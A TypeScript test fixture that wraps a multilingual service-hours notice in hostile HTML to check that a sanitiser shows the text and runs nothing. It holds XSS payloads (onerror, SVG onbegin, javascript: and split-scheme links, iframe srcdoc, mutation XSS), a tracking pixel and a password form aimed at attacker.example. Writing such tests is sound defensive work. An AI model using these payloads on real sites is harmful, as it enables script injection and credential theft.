import type { Text } from "../../text.ts";

/** The text that readers see when the HTML is sanitised: an ordinary notice. */
interface Words {
  changed: string;
  rules: string;
  hours: string;
  yes: string;
  chat: string;
  holidays: string;
  thanks: string;
}

/**
 * HTML as an attacker with access to the content editor would write it. Clients must show the text and run nothing. Each line tries one
 * kind of attack.
 */
const hostile = ({ changed, rules, hours, yes, chat, holidays, thanks }: Words): string => `<p>${changed}</p>
<img src="x" onerror="document.documentElement.dataset.attacked='img'">
<script>document.documentElement.dataset.attacked = "script"</script>
<svg><animate onbegin="document.documentElement.dataset.attacked='svg'" attributeName="x" dur="1s"></animate></svg>
<p style="position:fixed;inset:0;background:url(https://attacker.example/pixel)">${chat}</p>
<p id="root" class="dialog" name="body">${holidays}</p>
<a href="javascript:document.documentElement.dataset.attacked='link'">${rules}</a>
<a href="java&#10;script:document.documentElement.dataset.attacked='split'">${hours}</a>
<iframe srcdoc="<script>parent.document.documentElement.dataset.attacked='frame'</script>"></iframe>
<form action="https://attacker.example/collect"><input name="password"><button formaction="javascript:alert(1)">${yes}</button></form>
<math><mtext><table><mglyph><style><img src=x onerror="document.documentElement.dataset.attacked='mutation'"></style></mglyph></table></mtext></math>
<p>${thanks}</p>`;

/** The notice in each language. */
export const HOSTILE_HTML: Text = {
  en: hostile({
    changed: "Service hours <strong>changed</strong>.",
    chat: "Chat answers from 08:00 to 24:00, the telephone from 10:00 to 22:00.",
    holidays: "On holidays we begin an hour later.",
    rules: "Read more",
    hours: "All hours",
    yes: "Confirm",
    thanks: "Thank you.",
  }),
  bn: hostile({
    changed: "সেবার সময় <strong>বদলেছে</strong>।",
    chat: "চ্যাটে উত্তর পাবেন 08:00 থেকে 24:00, ফোনে 10:00 থেকে 22:00।",
    holidays: "ছুটির দিনে আমরা এক ঘণ্টা পরে শুরু করি।",
    rules: "আরও পড়ুন",
    hours: "সব সময়সূচি",
    yes: "নিশ্চিত করুন",
    thanks: "ধন্যবাদ।",
  }),
  hi: hostile({
    changed: "सेवा का समय <strong>बदल गया है</strong>।",
    chat: "चैट पर 08:00 से 24:00 तक और फ़ोन पर 10:00 से 22:00 तक जवाब मिलता है।",
    holidays: "छुट्टी के दिन हम एक घंटे बाद शुरू करते हैं।",
    rules: "और पढ़ें",
    hours: "पूरा समय",
    yes: "पुष्टि करें",
    thanks: "धन्यवाद।",
  }),
  id: hostile({
    changed: "Jam layanan <strong>berubah</strong>.",
    chat: "Obrolan dijawab dari 08:00 sampai 24:00, telepon dari 10:00 sampai 22:00.",
    holidays: "Pada hari libur kami mulai satu jam lebih lambat.",
    rules: "Baca selengkapnya",
    hours: "Semua jam",
    yes: "Konfirmasi",
    thanks: "Terima kasih.",
  }),
  fil: hostile({
    changed: "<strong>Nagbago</strong> ang oras ng serbisyo.",
    chat: "Sumasagot ang chat mula 08:00 hanggang 24:00, ang telepono mula 10:00 hanggang 22:00.",
    holidays: "Kapag holiday, nagsisimula kami nang isang oras na mas huli.",
    rules: "Magbasa pa",
    hours: "Lahat ng oras",
    yes: "Kumpirmahin",
    thanks: "Salamat.",
  }),
  vi: hostile({
    changed: "Giờ phục vụ <strong>đã thay đổi</strong>.",
    chat: "Trò chuyện được trả lời từ 08:00 đến 24:00, điện thoại từ 10:00 đến 22:00.",
    holidays: "Ngày lễ chúng tôi bắt đầu muộn hơn một giờ.",
    rules: "Đọc thêm",
    hours: "Toàn bộ giờ",
    yes: "Xác nhận",
    thanks: "Cảm ơn bạn.",
  }),
};
